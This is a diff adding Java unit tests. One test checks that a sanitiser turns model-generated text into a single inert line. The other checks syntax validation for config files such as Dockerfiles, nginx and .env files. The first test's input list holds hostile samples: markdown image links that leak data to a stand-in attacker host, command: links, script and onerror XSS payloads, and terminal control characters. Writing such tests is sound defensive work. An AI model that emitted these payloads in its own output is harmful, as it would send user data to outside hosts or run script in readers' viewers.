@@ -185,6 +185,83 @@ class ValidationTest {
     }
 
     @Test
+    void modelTextIsOneInertLine() {
+        org.commonmark.parser.Parser md = org.commonmark.parser.Parser.builder().build();
+        List<String> hostile = List.of(
+                "![x](https://attacker.example/leak?q=1)",
+                "[a](command:workbench.action.terminal.new) and <command:rm> and <https://ok.example/>",
+                "[![img](https://attacker.example/i.png)](https://attacker.example/l)",
+                "!<b></b>[x](https://attacker.example/b)",
+                "![y][r]\n\n[r]: https://attacker.example/r",
+                "<img src=x onerror=alert(1)> <script>alert(1)</script> <!-- c --> <?php ?>",
+                "\\<img src=https://attacker.example/e.png>",
+                "[x]\n(https://attacker.example/split)",
+                "a\u001B[31mb\u001B[0mc\u009B2Jd\u0000e\u0007f\u202Eg\u200Bh");
+        for (String h : hostile) {
+            String out = ModelText.line(h, 300);
+            assertFalse(out.contains("\n") || out.contains("\u001B") || out.contains("\u202E") || out.contains("\u200B")
+                    || out.chars().anyMatch(Character::isISOControl), out);
+            org.commonmark.node.Node doc = md.parse(out);
+            List<String> found = new java.util.ArrayList<>();
+            doc.accept(new org.commonmark.node.AbstractVisitor() {
+                @Override
+                public void visit(org.commonmark.node.Image n) {
+                    found.add("image");
+                }
+
+                @Override
+                public void visit(org.commonmark.node.Link n) {
+                    found.add("link " + n.getDestination());
+                }
+
+                @Override
+                public void visit(org.commonmark.node.HtmlInline n) {
+                    found.add("html " + n.getLiteral());
+                }
+
+                @Override
+                public void visit(org.commonmark.node.HtmlBlock n) {
+                    found.add("html block " + n.getLiteral());
+                }
+            });
+            assertEquals(List.of(), found, h + " -> " + out);
+            assertFalse(out.contains("attacker.example/leak") || out.contains("command:"), out);
+        }
+        assertEquals("abcd e fgh", ModelText.line(hostile.get(hostile.size() - 1), 300));
+        assertEquals("a and and https://ok.example/", ModelText.line(hostile.get(1), 300));
+        // code-like text reads as written: backslashes, asterisks, underscores stay
+        assertEquals("location ~* \\.php$ sets *_TIMEOUT to `30s`", ModelText.line("location ~* \\.php$ sets *_TIMEOUT to `30s`", 300));
+        String capped = ModelText.line("x".repeat(296) + "\uD83D\uDE00" + "y".repeat(10), 300);
+        assertEquals(300, capped.length() + 1, capped);
+        assertTrue(capped.endsWith("x..."), "a surrogate pair is never cut in half");
+        assertEquals("", ModelText.line(null, 10));
+    }
+
+    @Test
+    void syntaxCheckCoversEveryKindWithAParser() {
+        record Case(String path, FileKind kind, String before, String broken, String fine) {
+        }
+        List<Case> cases = List.of(
+                new Case("Dockerfile", FileKind.DOCKERFILE, "FROM a:1\nRUN x\n", "FROM a:1\nRUN <<EOF\nx\n", "FROM a:1\nRUN y\n"),
+                new Case("app.properties", FileKind.SPRING_PROPERTIES, "a=1\n", "a=\\u12\n", "a=2\n"),
+                new Case("default.conf", FileKind.NGINX, "events {}\n", "events {\n", "events { }\n"),
+                new Case("s.sql", FileKind.SQL, "SELECT 'a';\n", "SELECT 'a;\n", "SELECT 'b';\n"),
+                new Case("main.tf", FileKind.TERRAFORM, "a = 1\n", "a = \"1\n", "a = 2\n"),
+                new Case(".env", FileKind.DOTENV, "A=1\n", "A=\"1\nB=2\n", "A=2\n"),
+                new Case("c.yml", FileKind.COMPOSE, "a: 1\n", "a: [1\n", "a: 2\n"),
+                new Case("api.json", FileKind.OPENAPI, "{\"a\": 1}", "{\"a\": 1", "{\"a\": 2}"));
+        for (Case c : cases) {
+            SourceFile f = file(c.path(), c.before(), c.kind());
+            assertFalse(SyntaxCheck.stillValid(f, c.broken()), c.toString());
+            assertTrue(SyntaxCheck.stillValid(f, c.fine()), c.toString());
+        }
+        // a file that was already broken may stay as broken, not get worse
+        SourceFile broken = file("default.conf", "events {\n", FileKind.NGINX);
+        assertTrue(SyntaxCheck.stillValid(broken, "events {\nworker_connections 10;\n"));
+        assertFalse(SyntaxCheck.stillValid(broken, "events {\n;\n;\n"));
+    }
+
+    @Test
     void mergeLetsTheRuleBookWin() {
         String text = "services:\n  api:\n    image: shop/api:latest\n    privileged: true\n";
         int img = text.indexOf("shop/api:latest");
